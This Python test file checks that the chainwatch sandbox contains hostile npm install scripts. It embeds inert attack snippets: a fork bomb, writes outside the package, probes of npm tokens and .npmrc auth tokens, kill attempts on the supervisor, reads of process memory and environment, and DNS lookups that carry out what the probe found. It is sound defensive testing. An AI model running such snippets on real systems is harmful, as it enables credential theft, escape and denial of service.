"""Attacks on the sandbox itself: package code that tries to leave it, starve the host, or lie
to chainwatch. Each runs an inert replica (hosts under .invalid, IPs from 192.0.2.0/24) in the
real sandbox and checks the host, not only what chainwatch reports."""

from __future__ import annotations

import os
import socket
import stat
import threading
import time
import uuid
from pathlib import Path

import pytest

from chainwatch.sandbox.launcher import Limits, Tools
from tests.sandbox_support import manifest, need_sandbox, rules, run

FAST = Limits(phase_seconds=4)


@pytest.fixture
def sandbox() -> None:
    need_sandbox()


def nets(outcome: object) -> str:
    from chainwatch.sandbox import Outcome
    assert isinstance(outcome, Outcome)
    return "\n".join(e.detail for e in outcome.dynamic.events if e.kind == "net")


def test_writes_to_the_real_root_tmp_and_work_folder_stay_inside(tmp_path: Path, sandbox: None) -> None:
    tag = uuid.uuid4().hex
    targets = [Path("/root") / f"cw-escape-{tag}", Path("/tmp") / f"cw-escape-{tag}",
               tmp_path / f"cw-escape-{tag}"]
    script = "".join(
        f"try {{ require('fs').writeFileSync({str(t)!r}, 'x'); }} catch (e) {{}}\n" for t in targets)
    out = run({"package.json": manifest("escaper", scripts={"postinstall": "node x.js"}),
               "x.js": script + f"require('child_process').execSync('touch /root/sh-{tag} || true');\n"})
    assert out.dynamic.ran
    for target in [*targets, Path("/root") / f"sh-{tag}"]:
        assert not target.exists(), f"{target} was written on the host"
    # the attempts are on record: /root and the work folder are outside the package
    writes = "\n".join(e.detail for e in out.dynamic.events if e.kind == "write")
    assert f"/root/cw-escape-{tag}" in writes
    assert "CW-DYN-WRITE-OUTSIDE" in rules(out)


def test_no_network_but_loopback_inside_and_the_hosts_loopback_is_not_reachable(sandbox: None) -> None:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    server.settimeout(0.2)
    port = server.getsockname()[1]
    accepted: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            accepted.append(conn.recv(100))
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    js = (f"const net = require('net');\n"
          f"net.connect({port}, '127.0.0.1').on('error', () => {{}}).end('escaped');\n"
          "net.connect(80, '192.0.2.10').on('error', () => {});\n"
          "require('dgram').createSocket('udp4').send('x', 53, '192.0.2.53', () => {});\n"
          "setTimeout(() => process.exit(0), 1500);\n")  # the sink holds connections open
    try:
        out = run({"package.json": manifest("netter", scripts={"install": "node n.js"}),
                   "n.js": js}, limits=FAST)
    finally:
        stop.set()
    server.close()
    assert out.dynamic.ran
    assert accepted == [], "package code reached a server on the host's loopback"
    assert "192.0.2.10:80" in nets(out)
    assert "(ENETUNREACH)" in nets(out)
    assert f"127.0.0.1:{port}" in nets(out)


def _leftovers(tag: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmd = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if tag.encode() in cmd:
                found.append(pid)
    return found


def test_a_fork_bomb_is_bounded_in_time_and_leaves_nothing_behind(sandbox: None) -> None:
    tag = uuid.uuid4().hex[:12]
    started = time.monotonic()
    out = run({"package.json": manifest("forker", scripts={
        "preinstall": f"bomb_{tag}() {{ bomb_{tag} | bomb_{tag} & }}; bomb_{tag}; sleep 60"}),
        "index.js": "module.exports = 1;\n"}, limits=FAST)
    took = time.monotonic() - started
    assert out.dynamic.ran
    assert took < 3 * FAST.phase_seconds + 10, f"took {took:.1f} s"
    assert "stopped after 4 s" in {e.detail for e in out.dynamic.events
                                   if e.kind == "limit" and e.phase == "preinstall"}
    time.sleep(0.3)
    assert _leftovers(f"bomb_{tag}") == [], "processes of the bomb outlived the sandbox"


def test_the_number_of_processes_is_capped(sandbox: None) -> None:
    # strace slows forking, so a bomb meets the clock first; here the cap itself is met
    js = ("const cp = require('child_process');\n"
          "for (let i = 0; i < 120; i++) { try { cp.spawn('/bin/sleep', ['20']).on('error', () => {}); }"
          " catch (e) {} }\n")
    out = run({"package.json": manifest("spawner", scripts={"preinstall": "node s.js"}),
               "s.js": js}, limits=Limits(phase_seconds=8, processes=16, sandbox_tasks=48))
    assert out.dynamic.ran
    assert "process count not bounded" not in out.dynamic.reason
    limits = {e.detail for e in out.dynamic.events if e.kind == "limit"}
    assert "process limit reached (fork refused)" in limits, limits


def test_a_1_gb_allocation_fails_inside_and_the_run_goes_on(sandbox: None) -> None:
    js = ("const net = require('net');\n"
          "let big = null;\n"
          "try { big = Buffer.alloc(1024 * 1024 * 1024, 1); } catch (e) {}\n"
          "net.connect(80, big ? '192.0.2.99' : '192.0.2.98').on('error', () => {});\n")
    out = run({"package.json": manifest("hog", scripts={"postinstall": "node h.js"}),
               "h.js": js}, limits=FAST)
    assert out.dynamic.ran
    assert "192.0.2.98:80" in nets(out), nets(out)
    assert "192.0.2.99" not in nets(out), "1 GB was allocated despite the 512 MB limit"


def test_an_infinite_loop_is_stopped_at_the_phase_limit(sandbox: None) -> None:
    started = time.monotonic()
    out = run({"package.json": manifest("spinner", main="index.js"),
               "index.js": "while (true) {}\n"}, limits=FAST)
    took = time.monotonic() - started
    assert out.dynamic.ran
    assert took < 2 * FAST.phase_seconds + 10, f"took {took:.1f} s"
    limits = [e for e in out.dynamic.events if e.kind == "limit"]
    assert {e.phase for e in limits} >= {"load"}, limits


def test_the_real_home_and_environment_are_not_visible(monkeypatch: pytest.MonkeyPatch,
                                                       sandbox: None) -> None:
    monkeypatch.setenv("CW_HOST_SECRET", "host-secret-value")
    js = ("const fs = require('fs'), net = require('net');\n"
          "const go = (ip) => net.connect(80, ip).on('error', () => {});\n"
          "if (process.env.CW_HOST_SECRET) go('192.0.2.97');\n"
          "if (['/root/.bashrc', '/work', '/etc/shadow'].some((p) => fs.existsSync(p)))"
          " go('192.0.2.96');\n"
          "if ((process.env.NPM_TOKEN || '').startsWith('npm_')) go('192.0.2.95');\n"
          "const rc = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
          "if (rc.includes('_authToken')) go('192.0.2.94');\n")
    out = run({"package.json": manifest("peeker", scripts={"preinstall": "node p.js"}),
               "p.js": js})
    seen = nets(out)
    assert "192.0.2.95" in seen and "192.0.2.94" in seen, "the bait is missing: " + seen
    assert "192.0.2.97" not in seen, "the host environment leaked into the sandbox"
    assert "192.0.2.96" not in seen, "the host's home, /work or /etc/shadow is visible"


def test_forged_markers_neither_end_the_run_nor_move_events_to_another_phase(sandbox: None) -> None:
    js = ("const fs = require('fs');\n"
          "for (const p of ['/.cw-mark/0000/done', '/.cw-mark/0000/phase/eyJuYW1lIjoibG9hZCJ9',\n"
          "                 '/.cw-sink/0000/eyJraW5kIjoiZG5zIiwibmFtZSI6ImZvcmdlZCJ9'])\n"
          "  try { fs.statfsSync(p); } catch (e) {}\n"
          "require('net').connect(80, '192.0.2.20').on('error', () => {});\n")
    out = run({"package.json": manifest("forger", scripts={"postinstall": "node f.js"}),
               "f.js": js})
    assert out.dynamic.ran
    net = [e for e in out.dynamic.events if e.kind == "net" and "192.0.2.20" in e.detail]
    assert net and all(e.phase == "postinstall" for e in net)
    assert not any("forged" in e.detail for e in out.dynamic.events)


def test_package_code_cannot_kill_the_supervisor(sandbox: None) -> None:
    # the supervisor's pid is visible in the read-only /proc, but lives in the parent pid
    # namespace: kill() from inside cannot address it, so later phases still run
    script = ("for p in /proc/[0-9]*; do\n"
              "  if grep -q supervisor.py $p/cmdline 2>/dev/null; then kill -9 ${p#/proc/}; fi\n"
              "done\n")
    out = run({"package.json": manifest("killer", scripts={"preinstall": "sh k.sh",
                                                            "postinstall": "node later.js"}),
               "k.sh": script, "later.js": "require('fs').readFileSync(process.env.HOME + '/.npmrc');\n"})
    assert out.dynamic.ran
    assert not any(e.kind == "tamper" for e in out.dynamic.events)
    assert any(f.rule == "CW-DYN-BAIT-READ" and "postinstall" in f.message for f in out.findings)


def test_package_code_cannot_read_the_supervisors_token(sandbox: None) -> None:
    # the run's token (which makes markers trusted) is in the supervisor's config and memory:
    # its memory, open files, environment and root are out of reach of the inner sandbox
    script = ("grep -q supervisor.py /proc/2/cmdline && echo sup > /tmp/r.txt\n"
              "for p in /proc/1 /proc/2; do n=${p#/proc/}\n"
              "  head -c1 $p/mem >/dev/null 2>&1 && echo mem$n\n"
              "  for f in $p/fd/*; do head -c1 $f >/dev/null 2>&1 && echo fd$n; done\n"
              "  cat $p/environ >/dev/null 2>&1 && echo env$n\n"
              "  cat $p/root/opt/build/config.json >/dev/null 2>&1 && echo cfg$n\n"
              "done >> /tmp/r.txt 2>&1\n"
              "cat /opt/build/config.json >/dev/null 2>&1 && echo cfgdirect >> /tmp/r.txt\n"
              "echo self >> /tmp/r.txt\n")
    js = ("const r = require('fs').readFileSync('/tmp/r.txt', 'utf8').split('\\n').filter(Boolean);\n"
          "for (const x of r.filter((y) => y !== 'sup'))\n"
          "  require('net').connect(80, '192.0.2.1' + (x === 'self' ? '1' : '2'))"
          ".on('error', () => {});\n"
          "require('dns').lookup(r.join('-').slice(0, 60) + '.r.invalid', () => {});\n")
    out = run({"package.json": manifest("snoop", scripts={"preinstall": "sh s.sh",
                                                           "postinstall": "node r.js"}),
               "s.sh": script, "r.js": js})
    names = [e.detail for e in out.dynamic.events if e.kind == "dns"]
    assert "192.0.2.11:80" in nets(out), nets(out)  # the probe ran and reported
    # pid 2 is the supervisor (pid 1 its bwrap): nothing of theirs could be read
    assert any(n.startswith("query sup-self.") for n in names), names
    assert "192.0.2.12" not in nets(out)


def test_without_bwrap_nothing_runs_and_the_reason_is_given(tmp_path: Path) -> None:
    flag = tmp_path / "ran-bare"
    files = {"package.json": manifest("bare", scripts={"preinstall": f"touch {flag}"}),
             "index.js": f"require('fs').writeFileSync({str(flag)!r}, 'x');\n"}
    out = run(files, tools=Tools(bwrap=None))
    assert not out.dynamic.ran
    assert "bwrap" in out.dynamic.reason
    assert not flag.exists(), "package code ran outside the sandbox"
    assert [f.rule for f in out.findings] == ["CW-DYN-UNAVAILABLE"]


def test_a_failing_bwrap_means_not_run_never_a_bare_run(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(fake.stat().st_mode | stat.S_IXUSR)
    flag = tmp_path / "ran-bare"
    files = {"package.json": manifest("bare", scripts={"preinstall": f"touch {flag}"}),
             "index.js": f"require('fs').writeFileSync({str(flag)!r}, 'x');\n"}
    out = run(files, tools=Tools(bwrap=str(fake)))
    assert not out.dynamic.ran
    assert "No permissions to create new namespace" in out.dynamic.reason
    assert not flag.exists(), "package code ran outside the sandbox"


def test_a_bwrap_that_hangs_is_killed_at_the_deadline(tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    tag = f"cw-hang-{uuid.uuid4().hex[:12]}"
    fake.write_text(f"#!/bin/sh\nexec sh -c 'sleep 600; :' {tag}\n")
    fake.chmod(0o755)
    started = time.monotonic()
    out = run({"package.json": manifest("slow", scripts={"install": "true"})},
              tools=Tools(bwrap=str(fake)), limits=Limits(phase_seconds=1))
    assert time.monotonic() - started < 30
    assert not out.dynamic.ran
    assert "longer than" in out.dynamic.reason
    time.sleep(0.2)
    assert _leftovers(tag) == [], "the hung launcher outlived the deadline"


# a probe that looks for what would tell a package it is being watched (the needles are built
# at run time, so the probe's own text does not match); it reports through DNS names only
ANNOUNCE_PROBE = r"""
const fs = require('fs'), path = require('path'), dns = require('dns');
const needles = ['chain' + 'watch', '/' + 'cw/', '.' + 'cw-'];
// the harness's own files are readable (NODE_OPTIONS names the preload): the statfs channel's
// prefix is in them, but no name of ours
const inFiles = needles.slice(0, 2);
const own = fs.realpathSync(__dirname);
const hits = [];
function check(where, text, list) {
  const low = String(text).toLowerCase();
  for (const n of list || needles) if (low.includes(n)) { hits.push(where + ':' + n); return; }
}
for (const [k, v] of Object.entries(process.env)) check('env', k + '=' + v);
for (const f of ['/proc/self/mountinfo', '/proc/self/cgroup', '/proc/self/environ']) {
  try { check(f, fs.readFileSync(f, 'utf8')); } catch (e) {}
}
for (const p of fs.readdirSync('/proc').filter((x) => /^\d+$/.test(x))) {
  try { check('cmdline', fs.readFileSync(`/proc/${p}/cmdline`, 'utf8')); } catch (e) {}
}
let seen = 0;
function walk(dir, depth) {
  if (depth > 6 || seen > 20000 || dir === own) return;
  let names = [];
  try { names = fs.readdirSync(dir); } catch (e) { return; }
  for (const n of names) {
    const p = path.join(dir, n);
    seen++;
    check('path', p);
    let st;
    try { st = fs.lstatSync(p); } catch (e) { continue; }
    if (st.isDirectory()) walk(p, depth + 1);
    else if (st.isFile() && st.size < 512 * 1024 && !p.startsWith('/usr/') && !p.startsWith('/etc/ssl')) {
      try { check('file ' + p, fs.readFileSync(p, 'latin1'), inFiles); } catch (e) {}
    }
  }
}
for (const top of ['/', '/tmp', '/opt', '/var', '/run', '/home', '/etc', '/root', '/dev/shm']) {
  if (top === '/') { for (const n of fs.readdirSync('/')) check('path', '/' + n); continue; }
  walk(top, 0);
}
const label = (s) => Buffer.from(s).toString('hex').slice(0, 60);
dns.lookup((hits.length ? 'dirty' : 'clean') + '.probe.invalid', () => {});
for (const h of hits.slice(0, 12)) dns.lookup(label(h) + '.hit.probe.invalid', () => {});
setTimeout(() => {}, 500);
"""


def test_the_sandbox_does_not_announce_itself(sandbox: None) -> None:
    """A package that would stay quiet when watched must see an ordinary machine running npm:
    no variable, path, mount point, process or file it can read names chainwatch or its folders."""
    out = run({"package.json": manifest("probe-look", main="probe.js",
                                        scripts={"postinstall": "node probe.js"}),
               "probe.js": ANNOUNCE_PROBE})
    names = [e.detail for e in out.dynamic.events if e.kind == "dns"]
    hits = [bytes.fromhex(n.split()[-1].split(".hit.")[0]).decode("latin-1", "replace")
            for n in names if ".hit.probe.invalid" in n]
    clean = {e.phase for e in out.dynamic.events if e.kind == "dns" and "clean.probe" in e.detail}
    assert {"postinstall", "load"} <= clean, (hits, names)
    assert not hits, hits
